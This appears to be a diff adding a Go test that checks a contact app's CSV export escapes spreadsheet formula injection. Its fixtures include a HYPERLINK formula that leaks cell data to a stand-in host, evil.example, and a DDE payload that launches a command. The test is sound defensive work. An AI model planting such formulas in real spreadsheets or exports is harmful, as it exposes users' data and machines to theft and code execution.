@@ -114,3 +114,35 @@ func python(t *testing.T, data []byte, ext, script string) {
 		t.Fatalf("the independent reader refused the export: %v\n%s\n%s", err, out, data)
 	}
 }
+
+// Imported data can hold formulas: the CSV export never lets a spreadsheet
+// run one, and leaves every other value as it was.
+func TestExportCSVCellsAreInert(t *testing.T) {
+	a := newApp(t, now)
+	ctx := context.Background()
+	formula := `=HYPERLINK("http://evil.example/?d="&A1,"click")`
+	must[*PersonDetail](t)(a.AddPerson(ctx, "@SUM(1+1)", PersonEdit{Org: ptr(formula), Title: ptr("+cmd|' /C calc'!A0"),
+		Met: ptr("-2+3"), AddPhones: []string{"+44 20 7946 0000"}, AddTags: []string{"mentor"}}))
+	must[*PersonDetail](t)(a.AddPerson(ctx, "Grace Hopper", PersonEdit{Org: ptr("Navy"), AddTags: []string{"mentor"}}))
+	var buf bytes.Buffer
+	if err := a.ExportCSV(ctx, &buf, ExportFilter{}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil || len(rows) != 3 {
+		t.Fatalf("%d rows, %v", len(rows), err)
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("%s: %q would run as a formula", rows[0][i], cell)
+			}
+		}
+		if row[1] == "Grace Hopper" && row[5] != "Navy" {
+			t.Errorf("a plain value changed: %q", row[5])
+		}
+		if row[1] == "'@SUM(1+1)" && row[5] != "'"+formula {
+			t.Errorf("org %q", row[5])
+		}
+	}
+}
